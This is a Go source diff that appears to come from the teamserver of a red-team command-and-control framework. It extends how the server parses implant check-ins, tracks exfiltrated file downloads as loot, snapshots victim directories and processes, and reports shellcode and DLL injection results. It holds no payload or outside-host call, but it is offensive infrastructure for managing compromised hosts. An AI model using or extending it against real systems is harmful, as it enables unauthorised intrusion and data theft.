+			if err == nil && Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt64, parser.ReadInt32}) {
+				DemonID = Parser.ParseInt32()
+				Hostname = ParseName(Protocol, Parser)
+				Username = ParseName(Protocol, Parser)
+				DomainName = ParseName(Protocol, Parser)
+				InternalIP = Parser.ParseStringMax()
+				ProcessName = Parser.ParseUTF16StringMax()
+				ProcessPID = Parser.ParseInt32()
+				ProcessTID = Parser.ParseInt32()
+				ProcessPPID = Parser.ParseInt32()
+				ProcessArch = Parser.ParseInt32()
+				Elevated = Parser.ParseInt32()
+				BaseAddress = Parser.ParseInt64()
+				OsVersion = []int{Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32(), Parser.ParseInt32()}
+				OsArch = Parser.ParseInt32()
+				SleepDelay = Parser.ParseInt32()
+				SleepJitter = Parser.ParseInt32()
+				KillDate = Parser.ParseInt64()
+				WorkingHours = int32(Parser.ParseInt32())
+
+				if err = Parser.Err(); err != nil {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_CHECKIN, Invalid packet: %v", AgentID, err))
+					return
+				}
+
+				var Info = new(AgentInfo)
+
+				ParseMetaData(Protocol, Parser, Info)
+
+				if len(Info.ProxyPath) > 0 {
+					a.Info.ProxyPath = Info.ProxyPath
+				}
+
+				if Info.Capabilities != nil {
+					a.Info.Capabilities = Info.Capabilities
+				}
+
+				if Protocol >= DEMON_PROTOCOL_V3 {
+					a.Info.MaxResponse = Info.MaxResponse
+				}
+
+				if len(Info.TimeZone) > 0 {
+					a.Info.TimeZone = Info.TimeZone
+					a.Info.UTCOffset = Info.UTCOffset
+				}
+
+				if Protocol >= DEMON_PROTOCOL_V5 {
+					a.Info.CodePage = Info.CodePage
+					a.Info.OEMCodePage = Info.OEMCodePage
+				}
+
+				a.Info.Protocol = Protocol
+
+				a.Active = true
+
+				a.NameID = fmt.Sprintf("%08x", DemonID)
+				a.Info.Hostname = Hostname
+				a.Info.DomainName = DomainName
+				a.Info.Username = Username
+				a.Info.InternalIP = InternalIP
+				a.Info.SleepDelay = SleepDelay
+				a.Info.SleepJitter = SleepJitter
+				a.Info.KillDate = KillDate
+				a.Info.WorkingHours = WorkingHours
+
+				// a.Info.ExternalIP 	= strings.Split(connection.RemoteAddr().String(), ":")[0]
+				// a.Info.Listener 	= t.Name
+
+				switch ProcessArch {
+
+				case PROCESS_ARCH_UNKNOWN:
+					a.Info.ProcessArch = "Unknown"
+					break
+
+				case PROCESS_ARCH_X64:
+					a.Info.ProcessArch = "x64"
+					break
+
+				case PROCESS_ARCH_X86:
+					a.Info.ProcessArch = "x86"
+					break
+
+				case PROCESS_ARCH_IA64:
+					a.Info.ProcessArch = "IA64"
+					break
 
 				default:
 					a.Info.ProcessArch = "Unknown"
@@ -2466,6 +2767,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 				a.SessionDir = logr.LogrInstance.AgentPath + "/" + a.NameID
 
+				var SessionKey, SessionIV = a.Encryption.Keys()
+
 				Message["Output"] = fmt.Sprintf(
 					"\n"+
 						"Teamserver:\n"+
@@ -2486,10 +2789,12 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						"  - User Name          : %v\n"+
 						"  - Domain Name        : %v\n"+
 						"  - Internal IP        : %v\n"+
+						"  - Proxy Path         : %v\n"+
 						"\n"+
 						"Process Info:\n"+
 						"  - Process Name       : %v\n"+
 						"  - Process Arch       : %v\n"+
+						"  - Process Wow64      : %v\n"+
 						"  - Process ID         : %v\n"+
 						"  - Thread ID          : %v\n"+
 						//"  - Process Parent ID  : %v\n" +
@@ -2511,8 +2816,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					a.Info.MagicValue,
 					a.Info.FirstCallIn,
 					a.Info.LastCallIn,
-					hex.EncodeToString(a.Encryption.AESKey),
-					hex.EncodeToString(a.Encryption.AESIv),
+					hex.EncodeToString(SessionKey),
+					hex.EncodeToString(SessionIV),
 					a.Info.SleepDelay,
 					a.Info.SleepJitter,
 
@@ -2521,10 +2826,12 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					a.Info.Username,
 					a.Info.DomainName,
 					a.Info.InternalIP,
+					a.Info.ProxyPath,
 
 					// Process Info
 					a.Info.ProcessName,
 					a.Info.ProcessArch,
+					a.IsWow64(),
 					a.Info.ProcessPID,
 					a.Info.ProcessTID,
 					//a.Info.ProcessPPID,
@@ -2540,6 +2847,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					// TODO: add Optional data too
 				)
 
+				keyring.Wipe(SessionKey, SessionIV)
+
 				teamserver.AgentUpdate(a)
 				a.RequestCompleted(RequestID)
 			} else {
@@ -2744,8 +3053,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Message["Type"] = "Good"
 						Message["Message"] = fmt.Sprintf("Successful suspended job %v", JobID)
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = fmt.Sprintf("Failed to suspended job %v", JobID)
+						TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("Failed to suspended job %v", JobID))
 					}
 
 				} else {
@@ -2768,8 +3076,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Message["Type"] = "Good"
 						Message["Message"] = fmt.Sprintf("Successful resumed job %v", JobID)
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = fmt.Sprintf("Failed to resumed job %v", JobID)
+						TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("Failed to resumed job %v", JobID))
 					}
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_JOB - DEMON_COMMAND_JOB_RESUME, Invalid packet", AgentID))
@@ -2791,8 +3098,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Message["Type"] = "Good"
 						Message["Message"] = fmt.Sprintf("Successful killed and removed job %v", JobID)
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = fmt.Sprintf("Failed to kill job %v", JobID)
+						TaskError(Message, ERROR_CODE_FAILED, fmt.Sprintf("Failed to kill job %v", JobID))
 					}
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_JOB - DEMON_COMMAND_JOB_KILL_REMOVE, Invalid packet", AgentID))
@@ -2807,8 +3113,17 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				// this message is sent by the agent when a created process dies
 				a.RequestCompleted(RequestID)
 
-				break
-
+				/* the final chunk of its output is sent before, anything still open got lost */
+				if Missing, Open := a.PartialClose(RequestID); Open {
+					Message["Type"] = "Info"
+					Message["Message"] = "Job died before its output was complete"
+					if Missing > 0 {
+						Message["Message"] = fmt.Sprintf("Job died, %v chunks of its output never arrived", Missing)
+					}
+				}
+
+				break
+
 			default:
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_JOB - UNKNOWN (%d)", AgentID, SubCommand))
 			}
@@ -2839,14 +3154,14 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Success    = Parser.ParseBool()
 						ReadOne    = false
 						Dir        string
+						Snapshot   = make(map[string]string)
 						DirMap     = make(map[string]any)
 						DirArr     []map[string]string
 						WhatToRead []parser.ReadType
 					)
 
 					if !Success {
-						Output["Type"] = "Error"
-						Output["Message"] = "Failed to enumerate files/folders at specified path: " + StartPath
+						TaskError(Output, ERROR_CODE_FAILED, "Failed to enumerate files/folders at specified path: "+StartPath)
 					} else {
 						IsFirst := true
 						if ListOnly {
@@ -2861,11 +3176,17 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								NumDirs             = Parser.ParseInt32()
 								TotalFileSize int64 = 0
 								ItemsLeft           = NumFiles + NumDirs
+								RootDir             string
 							)
 							if !ListOnly {
 								TotalFileSize = Parser.ParseInt64()
 							}
 
+							/* strip the wildcard the path of the search ends with */
+							if len(RootDirPath) > 0 {
+								RootDir = RootDirPath[:len(RootDirPath)-1]
+							}
+
 							if !ListOnly && !Explorer && NumFiles+NumDirs > 0 {
 								if IsFirst {
 									IsFirst = false
@@ -2906,7 +3227,15 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 								ReadOne = true
 
 								if ListOnly {
-									Dir += fmt.Sprintf("%s%s\n", RootDirPath[:len(RootDirPath)-1], FileName)
+									Snapshot[RootDir+FileName] = ""
+								} else if IsDir {
+									Snapshot[RootDir+FileName] = "<DIR>"
+								} else {
+									Snapshot[RootDir+FileName] = fmt.Sprintf("%v bytes, modified %02d/%02d/%d %02d:%02d", FileSize, LastAccessDay, LastAccessMonth, LastAccessYear, LastAccessHour, LastAccessMinute)
+								}
+
+								if ListOnly {
+									Dir += fmt.Sprintf("%s%s\n", RootDir, FileName)
 								} else {
 									LastModified = fmt.Sprintf("%02d/%02d/%d  %02d:%02d", LastAccessDay, LastAccessMonth, LastAccessYear, LastAccessHour, LastAccessMinute)
 									if IsDir {
@@ -2952,6 +3281,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							}
 						}
 
+						teamserver.AgentSnapshot(a.NameID, SNAPSHOT_DIRECTORY, StartPath, Snapshot)
+
 						if !Explorer {
 							if ReadOne == false {
 								Output["Type"] = "Info"
@@ -2987,6 +3318,11 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				 * Data (Close):
 				 *  [ File Name ]
 				 *  [  Reason   ] Removed or Finished
+				 *
+				 * Data (Hash):
+				 *  [ File Size ]
+				 *  [ File Name ]
+				 *  [  SHA256   ] of the file before it gets transferred
 				 * */
 
 				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32}) {
@@ -3014,11 +3350,12 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							Output["Message"] = fmt.Sprintf("Started download of file: %v [%v]", FileName, Size)
 
 							if err := a.DownloadAdd(FileID, FileName, FileSize); err != nil {
-								Output["Type"] = "Error"
-								Output["Message"] = err.Error()
+								TaskError(Output, ERROR_CODE_FAILED, err.Error())
 							} else {
 								Output["MiscType"] = "download"
 								Output["MiscData2"] = base64.StdEncoding.EncodeToString([]byte(FileName)) + ";" + Size
+
+								teamserver.ExfilTransfer(a, FileID, 0)
 							}
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_DOWNLOAD, Invalid packet", AgentID))
@@ -3033,6 +3370,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							var FileChunk = Parser.ParseBytes()
 
 							a.DownloadWrite(FileID, FileChunk)
+							teamserver.ExfilTransfer(a, FileID, len(FileChunk))
 						} else {
 							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_DOWNLOAD, Invalid packet", AgentID))
 						}
@@ -3054,21 +3392,55 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 									FileName = download.FilePath
 								}
 
-								if Reason == 0x0 {
+								if download == nil {
+									logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_DOWNLOAD, Unknown FileID: %x", AgentID, FileID))
+								} else if Reason == 0x0 {
 									Output["Type"] = "Good"
 									Output["Message"] = fmt.Sprintf("Finished download of file: %v", FileName)
 
 									var err error
-									var n int
-									var FileData = make([]byte, download.TotalSize)
-									n, err = download.File.ReadAt(FileData, 0)
-									logger.Debug(fmt.Sprintf("downloadComplete, %v, %v", n, err))
-									if err == nil {
-										Output["MiscType"] = "downloadComplete"
-										Output["MiscData"] = base64.StdEncoding.EncodeToString([]byte(FileData))
-										Output["MiscData2"] = base64.StdEncoding.EncodeToString([]byte(download.FilePath)) + ";" + strconv.Itoa(int(download.TotalSize))
+									var FileData []byte
+
+									var Budget = teamserver.Budget(budget.TRANSFERS)
+
+									/* size by what has been written. not by the size the agent announced */
+									var Size = download.File.Size()
+
+									var Segment = teamserver.DownloadSegment(a, RequestID, download.LocalFile, Size, true)
+
+									if Segment {
+										/* part of a segmented download. the teamserver moves the file over and reassembles it */
+										Output["Message"] = fmt.Sprintf("Finished download of segment: %v [%v]", FileName, common.ByteCountSI(download.TotalSize))
+									} else if Size > DOWNLOAD_INLINE_MAX {
+										/* too big to send over the websocket. the file stays on disk and gets streamed on demand */
+										Output["Message"] = fmt.Sprintf("Finished download of file: %v [%v]. Fetch it from %v", FileName, common.ByteCountSI(Size), TransferURL(logr.LogrInstance.TransferPath(download.LocalFile)))
+										Output["Transfer"] = TransferURL(logr.LogrInstance.TransferPath(download.LocalFile))
+									} else if !Budget.Acquire(budget.Memory, Size) {
+										Output["Message"] = fmt.Sprintf("Finished download of file: %v [%v]. Memory budget of the transfers exhausted, fetch it from %v", FileName, common.ByteCountSI(Size), TransferURL(logr.LogrInstance.TransferPath(download.LocalFile)))
+										Output["Transfer"] = TransferURL(logr.LogrInstance.TransferPath(download.LocalFile))
 									} else {
-										logger.Error(fmt.Sprintf("Could not read file %v after download", download.FilePath))
+										defer Budget.Release(budget.Memory, Size)
+
+										if FileData, err = seal.ReadFile(download.LocalFile); err != nil {
+											logger.Error(fmt.Sprintf("Could not read file %v after download: %v", download.FilePath, err))
+											TaskError(Output, ERROR_CODE_FAILED, fmt.Sprintf("Failed to read downloaded file %v: %v", FileName, err))
+										} else {
+											Output["MiscType"] = "downloadComplete"
+											Output["MiscData"] = base64.StdEncoding.EncodeToString(FileData)
+											Output["MiscData2"] = base64.StdEncoding.EncodeToString([]byte(download.FilePath)) + ";" + strconv.Itoa(int(download.TotalSize))
+										}
+									}
+
+									if !Segment {
+										teamserver.EventPublish(eventbus.LOOT_ADDED, a.Info.Workspace, map[string]any{
+											"AgentID": a.NameID,
+											"Type":    "download",
+											"Name":    download.FilePath,
+											"Path":    download.LocalFile,
+											"Size":    Size,
+										})
+
+										teamserver.DownloadFinished(a, download.FilePath, download.LocalFile)
 									}
 
 									a.DownloadClose(FileID)
@@ -3076,6 +3448,8 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 									Output["Type"] = "Info"
 									Output["Message"] = fmt.Sprintf("Download has been removed: %v", FileName)
 
+									teamserver.DownloadSegment(a, RequestID, "", 0, false)
+
 									a.DownloadClose(FileID)
 								}
 							} else {
@@ -3089,6 +3463,35 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 
 						break
 
+					/* File Hash */
+					case 0x3:
+						logger.Debug(fmt.Sprintf("Download hash FileID:[%x]", FileID))
+
+						if Parser.CanIRead([]parser.ReadType{parser.ReadInt64, parser.ReadBytes, parser.ReadBytes}) {
+							var (
+								FileSize = Parser.ParseInt64()
+								FileName = Parser.ParseUTF16String()
+								Hash     = hex.EncodeToString(Parser.ParseBytes())
+								Size     = common.ByteCountSI(FileSize)
+							)
+
+							if Loot, ok := teamserver.DownloadKnown(a, FileName, FileSize, Hash); ok {
+								Output["Type"] = "Good"
+								Output["Message"] = fmt.Sprintf("File %v [%v] is already in the loot, linked the existing copy: %v", FileName, Size, Loot)
+
+								a.RequestCompleted(RequestID)
+							} else {
+								Output["Type"] = "Info"
+								Output["Message"] = fmt.Sprintf("File %v [%v] is not in the loot yet, downloading it [sha256: %v]", FileName, Size, Hash)
+
+								a.DownloadFetch(FileName, RequestID)
+							}
+						} else {
+							logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_DOWNLOAD, Invalid packet", AgentID))
+						}
+
+						break
+
 					default:
 						logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - UNKNOWN (%d)", AgentID, Mode))
 					}
@@ -3114,8 +3517,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					a.RequestCompleted(RequestID)
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_UPLOAD, Invalid packet", AgentID))
-					Output["Type"] = "Error"
-					Output["Message"] = "Failed to parse FS::Upload response"
+					TaskError(Output, ERROR_CODE_MALFORMED, "Failed to parse FS::Upload response")
 				}
 
 				break
@@ -3190,8 +3592,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Output["Type"] = "Good"
 						Output["Message"] = fmt.Sprintf("Successful copied file %v to %v", PathFrom, PathTo)
 					} else {
-						Output["Type"] = "Error"
-						Output["Message"] = fmt.Sprintf("Failed to copied file %v to %v", PathFrom, PathTo)
+						TaskError(Output, ERROR_CODE_FAILED, fmt.Sprintf("Failed to copied file %v to %v", PathFrom, PathTo))
 					}
 					a.RequestCompleted(RequestID)
 				} else {
@@ -3214,8 +3615,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Output["Type"] = "Good"
 						Output["Message"] = fmt.Sprintf("Successful moved file %v to %v", PathFrom, PathTo)
 					} else {
-						Output["Type"] = "Error"
-						Output["Message"] = fmt.Sprintf("Failed to moved file %v to %v", PathFrom, PathTo)
+						TaskError(Output, ERROR_CODE_FAILED, fmt.Sprintf("Failed to moved file %v to %v", PathFrom, PathTo))
 					}
 					a.RequestCompleted(RequestID)
 				} else {
@@ -3245,7 +3645,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					var (
 						FileName    = Parser.ParseUTF16String()
 						Success     = Parser.ParseInt32()
-						FileContent = Parser.ParseString()
+						FileContent = Parser.ParseBytes()
 					)
 
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_CAT, FileName: %v, Success: %d", AgentID, FileName, Success))
@@ -3253,7 +3653,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					if Success == win32.TRUE {
 						Output["Type"] = "Info"
 						Output["Message"] = fmt.Sprintf("File content of %v (%v):", FileName, len(FileContent))
-						Output["Output"] = FileContent
+						Output["Output"] = a.DecodeANSI(FileContent)
 					} else {
 						Output["Type"] = "Erro"
 						Output["Message"] = fmt.Sprintf("Failed to read file: %v", FileName)
@@ -3262,8 +3662,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					a.RequestCompleted(RequestID)
 				} else {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - DEMON_COMMAND_FS_CAT, Invalid packet", AgentID))
-					Output["Type"] = "Error"
-					Output["Message"] = "Failed to parse fs::cat response"
+					TaskError(Output, ERROR_CODE_MALFORMED, "Failed to parse fs::cat response")
 				}
 			default:
 				logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_FS - UNKNOWN (%d)", AgentID, SubCommand))
@@ -3342,7 +3741,22 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 			ProcessTable += fmt.Sprintf(FormatTable+"\n", process.Name, process.PID, process.PPID, process.Session, ProcessArch, process.Threads, process.User)
 		}
 
-		var ProcessListJson, _ = json.Marshal(Processlist)
+		var (
+			ProcessListJson, _ = json.Marshal(Processlist)
+			Snapshot           = make(map[string]string)
+		)
+
+		/* the thread count changes all the time so it isn't part of the snapshot */
+		for _, process := range Processlist {
+			var ProcessArch = "x64"
+			if process.IsWow == win32.TRUE {
+				ProcessArch = "x86"
+			}
+
+			Snapshot[process.PID] = fmt.Sprintf("%v (ppid: %v, session: %v, arch: %v, user: %v)", process.Name, process.PPID, process.Session, ProcessArch, process.User)
+		}
+
+		teamserver.AgentSnapshot(a.NameID, SNAPSHOT_PROCESSES, "", Snapshot)
 
 		if ProcessUI == win32.FALSE {
 			Output["Type"] = "Info"
@@ -3362,7 +3776,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 		var message string
 
 		if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
-			message = Parser.ParseString()
+			message = a.DecodeOEM(Parser.ParseBytes())
 			logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_OUTPUT, len: %d", AgentID, len(message)))
 
 			Output["Type"] = "Good"
@@ -3401,7 +3815,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					for _, BofCallback := range a.BofCallbacks {
 						if BofCallback.TaskID == RequestID {
 							// store the output and later send it back to the python module
-							BofCallback.Output += Parser.ParseString()
+							BofCallback.Output += a.DecodeANSI(Parser.ParseBytes())
 							found = true
 							break
 						}
@@ -3411,7 +3825,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						// simply print the output on the agent console
 						var Output = make(map[string]string)
 						Output["Type"] = "Good"
-						Output["Output"] = Parser.ParseString()
+						Output["Output"] = a.DecodeANSI(Parser.ParseBytes())
 						Output["Message"] = fmt.Sprintf("Received Output [%v bytes]:", len(Output["Output"]))
 						if len(Output["Output"]) > 0 {
 							teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Output)
@@ -3453,6 +3867,50 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: BEACON_OUTPUT - CALLBACK_OUTPUT_OEM, Invalid packet", AgentID))
 				}
 
+			case CALLBACK_OUTPUT_PARTIAL:
+				if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadInt32, parser.ReadBytes}) {
+					var Chunk = PartialChunk{
+						Sequence: uint32(Parser.ParseInt32()),
+						Final:    Parser.ParseInt32() != 0,
+						Output:   Parser.ParseBytes(),
+					}
+
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: BEACON_OUTPUT - CALLBACK_OUTPUT_PARTIAL, Sequence: %v, Final: %v, len: %d", AgentID, Chunk.Sequence, Chunk.Final, len(Chunk.Output)))
+
+					Chunks, err := a.PartialOutput(RequestID, Chunk)
+					if err != nil {
+						var Output = make(map[string]string)
+						TaskError(Output, ERROR_CODE_RESOURCES, "Partial output dropped: "+err.Error())
+						teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Output)
+						break
+					}
+
+					for _, Chunk := range Chunks {
+						var Output = map[string]string{
+							"Type":     "Good",
+							"Output":   a.DecodeOEM(Chunk.Output),
+							"Partial":  "true",
+							"Sequence": strconv.FormatUint(uint64(Chunk.Sequence), 10),
+						}
+
+						/* only the first chunk gets a header, the rest continues its output */
+						if Chunk.Sequence == 0 {
+							Output["Message"] = "Receiving Output:"
+						}
+
+						if Chunk.Final {
+							Output["Final"] = "true"
+							Output["Message"] = fmt.Sprintf("Received Output [%v bytes in %v chunks]", Chunk.Total, Chunk.Sequence+1)
+						} else if len(Output["Output"]) == 0 {
+							continue
+						}
+
+						teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Output)
+					}
+				} else {
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: BEACON_OUTPUT - CALLBACK_OUTPUT_PARTIAL, Invalid packet", AgentID))
+				}
+
 			case CALLBACK_ERROR:
 				if Parser.CanIRead([]parser.ReadType{parser.ReadBytes}) {
 					logger.Debug(fmt.Sprintf("Agent: %x, Command: BEACON_OUTPUT - CALLBACK_ERROR", AgentID))
@@ -3461,7 +3919,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					for _, BofCallback := range a.BofCallbacks {
 						if BofCallback.TaskID == RequestID {
 							// store the output and later send it back to the python module
-							BofCallback.Error += Parser.ParseString()
+							BofCallback.Error += a.DecodeANSI(Parser.ParseBytes())
 							found = true
 							break
 						}
@@ -3471,7 +3929,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						// simply print the output on the agent console
 						var Output = make(map[string]string)
 						Output["Type"] = typeError
-						Output["Output"] = Parser.ParseString()
+						Output["Output"] = a.DecodeANSI(Parser.ParseBytes())
 						Output["Message"] = fmt.Sprintf("Received Output [%v bytes]:", len(Output["Output"]))
 						if len(Output["Output"]) > 0 {
 							teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Output)
@@ -3498,8 +3956,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						logger.Debug(Output["Message"])
 
 						if err := a.DownloadAdd(FileID, FileName, FileLength); err != nil {
-							Output["Type"] = "Error"
-							Output["Message"] = err.Error()
+							TaskError(Output, ERROR_CODE_FAILED, err.Error())
 						} else {
 							Output["MiscType"] = "download"
 							Output["MiscData2"] = base64.StdEncoding.EncodeToString([]byte(FileName)) + ";" + common.ByteCountSI(int64(FileLength))
@@ -3526,8 +3983,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						var err = a.DownloadWrite(FileID, FileChunk)
 						if err != nil {
 							var Output = make(map[string]string)
-							Output["Type"] = "Error"
-							Output["Message"] = err.Error()
+							TaskError(Output, ERROR_CODE_FAILED, err.Error())
 							teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Output)
 						}
 					} else {
@@ -3594,8 +4050,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					String = fmt.Sprintf("Status:[%v]", String)
 				}
 
-				Message["Type"] = "Error"
-				Message["Message"] = "Failed to inject reflective dll: " + String
+				TaskError(Message, ErrorInject(Status), "Failed to inject reflective dll: "+String)
 			}
 
 			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
@@ -3624,8 +4079,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					String = fmt.Sprintf("Status:[%v]", String)
 				}
 
-				Message["Type"] = "Error"
-				Message["Message"] = "Failed to spawned reflective dll: " + String
+				TaskError(Message, ErrorInject(Status), "Failed to spawned reflective dll: "+String)
 			}
 
 			teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, Message)
@@ -3649,17 +4103,13 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 				Message["Type"] = "Good"
 				Message["Message"] = "Successful injected shellcode"
 			} else if Status == INJECT_ERROR_FAILED {
-				Message["Type"] = "Error"
-				Message["Message"] = "Failed to inject shellcode"
+				TaskError(Message, ERROR_CODE_FAILED, "Failed to inject shellcode")
 			} else if Status == INJECT_ERROR_INVALID_PARAM {
-				Message["Type"] = "Error"
-				Message["Message"] = "Invalid parameter specified"
+				TaskError(Message, ERROR_CODE_INVALID_ARGUMENT, "Invalid parameter specified")
 			} else if Status == INJECT_ERROR_PROCESS_ARCH_MISMATCH {
-				Message["Type"] = "Error"
-				Message["Message"] = "Process architecture mismatch"
+				TaskError(Message, ERROR_CODE_NOT_SUPPORTED, "Process architecture mismatch")
 			} else if Status == INJECT_ERROR_FAILED {
-				Message["Type"] = "Error"
-				Message["Message"] = "Failed to inject shellcode"
+				TaskError(Message, ERROR_CODE_FAILED, "Failed to inject shellcode")
 			}
 
 			a.RequestCompleted(RequestID)
@@ -3707,7 +4157,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 							collum []string
 						)
 
-						ModuleName = Parser.ParseString()
+						ModuleName = a.DecodeANSI(Parser.ParseBytes())
 						ModuleBase = "0x" + strconv.FormatInt(Parser.ParsePointer(), 16)
 
 						collum = []string{strings.ReplaceAll(ModuleName, " ", ""), ModuleBase} // TODO: fix this to avoid new line in the havoc console
@@ -3721,8 +4171,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					Message["Output"] = "\n" + OutputBuffer.String()
 
 				} else {
-					Message["Type"] = "Error"
-					Message["Message"] = "Couldn't list loaded modules/dll from specified process: "
+					TaskError(Message, ERROR_CODE_FAILED, "Couldn't list loaded modules/dll from specified process: ")
 				}
 				a.RequestCompleted(RequestID)
 
@@ -3759,8 +4208,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 					Message["Output"] = Output
 
 				} else {
-					Message["Type"] = "Error"
-					Message["Message"] = "Couldn't find specified process"
+					TaskError(Message, ERROR_CODE_NOT_FOUND, "Couldn't find specified process")
 				}
 				a.RequestCompleted(RequestID)
 
@@ -3794,7 +4242,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						a.RequestCompleted(RequestID)
 					}
 				} else {
-					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PROC - DEMON_COMMAND_PROC_CREATE, Invalid packet: %d", AgentID))
+					logger.Debug(fmt.Sprintf("Agent: %x, Command: COMMAND_PROC - DEMON_COMMAND_PROC_CREATE, Invalid packet", AgentID))
 				}
 
 				// TODO: can we expect more messages from this request?
@@ -3909,8 +4357,7 @@ func (a *Agent) TaskDispatch(RequestID uint32, CommandID uint32, Parser *parser.
 						Message["Message"] = "List memory regions:"
 						Message["Output"] = "\n" + OutputBuffer.String()
 					} else {
-						Message["Type"] = "Error"
-						Message["Message"] = "Couldn't list memory regions"
+						TaskError(Message, ERROR_CODE_FAILED, "Couldn't list memory regions")
 					}
